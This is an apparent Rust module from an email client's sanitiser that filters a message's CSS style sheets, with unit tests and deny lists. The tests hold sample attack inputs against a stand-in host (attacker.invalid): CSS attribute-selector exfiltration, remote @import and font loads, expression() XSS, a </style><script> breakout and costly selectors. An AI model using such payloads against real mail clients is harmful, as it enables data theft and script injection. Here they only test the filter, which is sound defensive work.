//! A message's own style sheets (its `<style>` elements), kept through the same filter as its
//! `style` attributes. Newsletters and mail from desktop clients style by class and adapt with
//! `@media`; without their sheets they lose their spacing and fonts.
//!
//! Only plain rules and `@media` blocks survive. Every declaration needs an allowed property and
//! must pass [`safe_declaration`]; selectors and media queries are limited to characters that cannot
//! open a block, an escape or a tag; and the output is written anew from what was understood, never
//! copied, so it holds no `<` and every `{` it has is one this parser put there.

use std::sync::atomic::AtomicBool;

use super::css::{allowed_property, safe_declaration, strip_css_comments};

/// Most style-sheet text read from one body.
const MAX_SHEET_BYTES: usize = 256 * 1024;

/// The text of every `<style>` element of `html`, one after the other.
pub(super) fn style_elements(html: &str) -> String {
    // ASCII lower-casing keeps every byte offset.
    let lower = html.to_ascii_lowercase();
    let mut out = String::new();
    let mut at = 0;
    while let Some(i) = lower[at..].find("<style") {
        let name_end = at + i + "<style".len();
        at = name_end;
        if !matches!(
            lower.as_bytes().get(name_end),
            Some(b'>' | b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/')
        ) {
            continue;
        }
        let Some(gt) = lower[name_end..].find('>') else {
            break;
        };
        let body = name_end + gt + 1;
        let end = lower[body..]
            .find("</style")
            .map_or(lower.len(), |e| body + e);
        out.push_str(&html[body..end]);
        out.push('\n');
        at = end;
        if out.len() > MAX_SHEET_BYTES {
            break;
        }
    }
    out
}

/// The safe part of a style sheet, re-serialised; empty when nothing is left.
pub(super) fn filter_stylesheet(css: &str, had_remote: &AtomicBool) -> String {
    let mut end = css.len().min(MAX_SHEET_BYTES);
    while !css.is_char_boundary(end) {
        end -= 1;
    }
    // `<!--` and `-->` around a sheet are ignored by CSS itself (old mail hides sheets that way).
    let css = strip_css_comments(&css[..end])
        .replace("<!--", " ")
        .replace("-->", " ");
    let mut out = String::new();
    let mut kept = 0;
    rules(&css, true, had_remote, &mut out, &mut kept);
    if out.contains('<') {
        // Cannot happen by construction; a sheet is worth less than the guarantee.
        return String::new();
    }
    out
}

fn rules(css: &str, top: bool, had_remote: &AtomicBool, out: &mut String, kept: &mut usize) {
    for (prelude, block) in blocks(css) {
        if *kept >= MAX_RULES {
            return;
        }
        let prelude = prelude.trim();
        let Some(block) = block else {
            // `@import url(...)`, `@charset`...: statements, all dropped.
            if prelude.to_ascii_lowercase().contains("url(") {
                had_remote.store(true, std::sync::atomic::Ordering::Relaxed);
            }
            continue;
        };
        if let Some(at_rule) = prelude.strip_prefix('@') {
            let lower = at_rule.to_ascii_lowercase();
            // `@media` followed by its query; `@mediascreen` is an unknown rule to the browser.
            let media = lower
                .strip_prefix("media")
                .filter(|q| q.starts_with(|c: char| c.is_ascii_whitespace() || c == '('));
            let Some(query) = media else {
                // @font-face (remote fonts), @keyframes, @supports, @page...
                if block.to_ascii_lowercase().contains("url(") {
                    had_remote.store(true, std::sync::atomic::Ordering::Relaxed);
                }
                continue;
            };
            let query = query.trim();
            if top && media_query_ok(query) {
                let mut inner = String::new();
                rules(block, false, had_remote, &mut inner, kept);
                if !inner.is_empty() {
                    out.push_str("@media ");
                    out.push_str(query);
                    out.push_str(" {\n");
                    out.push_str(&inner);
                    out.push_str("}\n");
                }
            }
            continue;
        }
        if !selector_ok(prelude) {
            continue;
        }
        let declarations = declarations(block, had_remote);
        if !declarations.is_empty() {
            *kept += 1;
            out.push_str(prelude);
            out.push_str(" { ");
            out.push_str(&declarations);
            out.push_str(" }\n");
        }
    }
}

/// Top-level `prelude { block }` pairs and `prelude;` statements, with braces inside strings and
/// after a backslash not counted (as a CSS tokenizer reads them). An unclosed last block is dropped.
fn blocks(css: &str) -> Vec<(&str, Option<&str>)> {
    let b = css.as_bytes();
    let mut out = Vec::new();
    let (mut start, mut open, mut depth) = (0, 0, 0usize);
    let mut quote = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match quote {
            // A newline ends a string too (a "bad string" to CSS).
            Some(q) if c == q || c == b'\n' => quote = None,
            Some(_) if c == b'\\' => i += 1,
            Some(_) => {}
            None => match c {
                b'"' | b'\'' => quote = Some(c),
                b'\\' => i += 1,
                b'{' => {
                    if depth == 0 {
                        open = i;
                    }
                    depth += 1;
                }
                b'}' if depth > 0 => {
                    depth -= 1;
                    if depth == 0 {
                        out.push((&css[start..open], Some(&css[open + 1..i])));
                        start = i + 1;
                    }
                }
                b'}' => start = i + 1,
                b';' if depth == 0 => {
                    out.push((&css[start..i], None));
                    start = i + 1;
                }
                _ => {}
            },
        }
        i += 1;
    }
    out
}

/// Deepest nesting of brackets in a selector: `:is(:is(:is(...)))` costs the browser dearly.
const MAX_SELECTOR_NESTING: usize = 8;

/// Deepest nesting of brackets in a value (`calc()` inside `max()` inside...).
const MAX_VALUE_NESTING: usize = 16;

/// Most rules kept from one body (a sheet of thousands of selectors slows the frame's layout).
const MAX_RULES: usize = 4000;

/// Selectors of type, class, id, attribute, pseudo-class and combinators: no escapes, braces,
/// at-signs or slashes; no `:has()` (costly on every change of the page) and nothing that names a
/// URL; tokens as this filter reads them.
fn selector_ok(s: &str) -> bool {
    let compact: String = s
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    !s.is_empty()
        && s.len() <= 2000
        && s.chars()
            .all(|c| c.is_alphanumeric() || " \t\r\n-_.#:>+~*,()[]=|^$!\"'%".contains(c))
        && !compact.contains(":has(")
        // Nothing a reader of the sheet could take for a dangerous value, even where it is only
        // a selector (`behavior:a` is an element and a pseudo-class).
        && ![
            "url(",
            "image-set(",
            "expression(",
            "javascript:",
            "-moz-binding",
            "behavior:",
            "position:",
        ]
        .iter()
        .any(|bad| compact.contains(bad))
        && !sibling_inside_brackets(s)
        && plain_tokens(s, MAX_SELECTOR_NESTING)
}

/// A `~` inside `:is(...)`, `:where(...)`, `:nth-child(... of ...)`: with another `~` outside, the
/// browser's matching cost grows with a power of the number of siblings (a few bytes of sheet froze
/// the frame for over a minute on 1,000 elements).
fn sibling_inside_brackets(s: &str) -> bool {
    let mut depth = 0usize;
    for c in s.chars() {
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            '~' if depth > 0 => return true,
            _ => {}
        }
    }
    false
}

/// True when a CSS tokenizer reads `s` as this filter does: every string closes on its own line and
/// holds no escape, brackets pair up (and nest at most `max_nesting` deep), nothing can open or close
/// a block or a comment. What is printed is exactly what was checked, so the browser cannot find a
/// declaration inside a selector, or a rule inside a string, that the filter did not see.
fn plain_tokens(s: &str, max_nesting: usize) -> bool {
    let mut open = Vec::new();
    let mut quote = None;
    for c in s.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) if matches!(c, '\n' | '\r' | '\x0c' | '\\') => return false,
            Some(_) => {}
            None => match c {
                '"' | '\'' => quote = Some(c),
                '(' | '[' => {
                    open.push(c);
                    if open.len() > max_nesting {
                        return false;
                    }
                }
                ')' if open.pop() != Some('(') => return false,
                ']' if open.pop() != Some('[') => return false,
                '\\' | '{' | '}' | ';' | '<' | '@' => return false,
                _ => {}
            },
        }
    }
    quote.is_none() && open.is_empty() && !s.contains("/*") && !s.contains("*/")
}

/// `screen and (max-width: 600px)`: words, numbers, parentheses, colons and commas.
fn media_query_ok(q: &str) -> bool {
    !q.is_empty()
        && q.len() <= 500
        && q.chars()
            .all(|c| c.is_ascii_alphanumeric() || " \t\r\n-_.,:()".contains(c))
        && !q.to_ascii_lowercase().contains("url")
        && plain_tokens(q, 4)
}

/// The declarations of one block that are allowed and safe, as `name: value; ...`.
fn declarations(block: &str, had_remote: &AtomicBool) -> String {
    block
        .split(';')
        .filter_map(|decl| {
            let (name, value) = decl.split_once(':')?;
            let name = name.trim().to_ascii_lowercase();
            let value = value.trim();
            let plain = !value.is_empty() && plain_tokens(value, MAX_VALUE_NESTING);
            (allowed_property(&name) && plain && safe_declaration(decl, had_remote))
                .then(|| format!("{name}: {value}"))
        })
        .collect::<Vec<_>>()
        .join("; ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filter(css: &str) -> (String, bool) {
        let remote = AtomicBool::new(false);
        let out = filter_stylesheet(css, &remote);
        (out, remote.load(std::sync::atomic::Ordering::Relaxed))
    }

    #[test]
    fn ordinary_sheets_keep_their_rules_and_media_queries() {
        let (out, remote) = filter(
            "<!--\n p.MsoNormal, li.MsoNormal { margin: 0cm; font-family: \"Calibri\", sans-serif; }\n\
             .btn a:hover { color: #fff !important }\n\
             @media only screen and (max-width: 600px) { .col { width: 100% !important; display: block } }\n-->",
        );
        assert!(!remote);
        assert!(
            out.contains(
                "p.MsoNormal, li.MsoNormal { margin: 0cm; font-family: \"Calibri\", sans-serif }"
            ),
            "{out}"
        );
        assert!(
            out.contains(".btn a:hover { color: #fff !important }"),
            "{out}"
        );
        assert!(
            out.contains("@media only screen and (max-width: 600px) {\n.col { width: 100% !important; display: block }\n}"),
            "{out}"
        );
    }

    #[test]
    fn nothing_that_loads_runs_or_escapes_survives() {
        let (out, remote) = filter(
            "@import url(https://attacker.invalid/css/a.css);\n\
             @font-face { font-family: X; src: url(https://attacker.invalid/font) }\n\
             input[value^=\"a\"] { background: url(https://attacker.invalid/exfil/a) }\n\
             .o { position: fixed; top: 0; color: red }\n\
             .e { width: expr/**/ession(alert('XSS')) }\n\
             .k { -moz-binding: x; behavior: y; color: blue }",
        );
        assert!(remote, "the remote loads were noticed");
        let lower = out.to_ascii_lowercase();
        for bad in [
            "url",
            "import",
            "font-face",
            "attacker",
            "position",
            "expression",
            "binding",
            "behavior",
        ] {
            assert!(!lower.contains(bad), "{bad} in {out}");
        }
        assert!(out.contains(".o { color: red }"), "{out}");
        assert!(out.contains(".k { color: blue }"), "{out}");
    }

    #[test]
    fn tricks_with_tags_strings_and_escapes_are_dropped() {
        // A sheet cannot close its element or open a tag.
        let (out, _) =
            filter("p { color: red } </style><script>alert('XSS')</script> b { color: blue }");
        assert!(!out.contains('<'), "{out}");
        // An escaped brace in a selector or an escape in a value: the rule goes.
        let (out, _) =
            filter(".a\\{x { color: red } .b { font-family: \\75rl(x) } .c { color: green }");
        assert!(!out.contains("\\"), "{out}");
        assert!(out.contains(".c { color: green }"), "{out}");
        // A string left open in a value does not swallow the next rule into it unfiltered.
        let (out, _) = filter(
            ".a { font-family: \"x }\n.b { background: url(//attacker.invalid/x) }\n.c { color: green }",
        );
        assert!(!out.contains("attacker"), "{out}");
        // An at-rule that only starts like @media is not one.
        let (out, _) =
            filter("@mediascreen { p { color: red } } @media(min-width:1px) { p { color: blue } }");
        assert_eq!(out, "@media (min-width:1px) {\np { color: blue }\n}\n");
        // Nested at-rules and unknown ones are not kept.
        let (out, _) = filter(
            "@media screen { @media print { p { color: red } } } @supports (display:grid) { p { color: red } }",
        );
        assert!(out.is_empty(), "{out}");
    }

    #[test]
    fn a_selector_cannot_become_a_declaration() {
        // Quotes that pair up by count but not as strings, and a newline (ending a string) that
        // trimming would remove: the browser would read the third line as `content: url(...)`.
        let (out, _) = filter(
            "p::before { font-family: \"'\" '\n}\na { color: red }\n\
             content:url(http:127.0.0.1:8765) \"'\" '\n{ color: '\"'\"\n}\n\
             .fixed { color: blue }\nposition:attr(class type(*),\"'\" '\n{ color: '\"'\"\n}",
        );
        let lower = out.to_ascii_lowercase();
        assert!(
            !lower.contains("url") && !lower.contains("position"),
            "{out}"
        );
        // Comments removed cannot leave a new one behind (`//**/*` is not `/*`).
        let (out, _) = filter(".a { color: red//**/* } .b { color: blue }");
        assert!(!out.contains("/*"), "{out}");
        assert!(out.contains(".b { color: blue }"), "{out}");
    }

    #[test]
    fn costly_selectors_are_dropped() {
        let (out, _) =
            filter(":is(:is(b ~ i) ~ i) ~ i { color: red } i:nth-child(n of b ~ i) { color: red }");
        assert!(out.is_empty(), "{out}");
        let (out, _) = filter(
            "p:has(* * *) { color: red } :is(:is(:is(:is(:is(:is(:is(:is(:is(p))))))))) { color: red } \
             :not(.x) > p[lang=\"fr\"] { color: green }",
        );
        assert_eq!(out, ":not(.x) > p[lang=\"fr\"] { color: green }\n");
        let many = ".a { color: red }\n".repeat(MAX_RULES + 10);
        let (out, _) = filter(&many);
        assert_eq!(out.lines().count(), MAX_RULES);
    }

    #[test]
    fn style_elements_are_found_in_any_case_and_only_as_elements() {
        let html = "<html><head><STYLE type=\"text/css\">p { color: red }</STYLE>\
                    <styles>not css</styles><style>.b { color: blue }</style></head></html>";
        let css = style_elements(html);
        assert!(css.contains("p { color: red }") && css.contains(".b { color: blue }"));
        assert!(!css.contains("not css"), "{css}");
    }
}
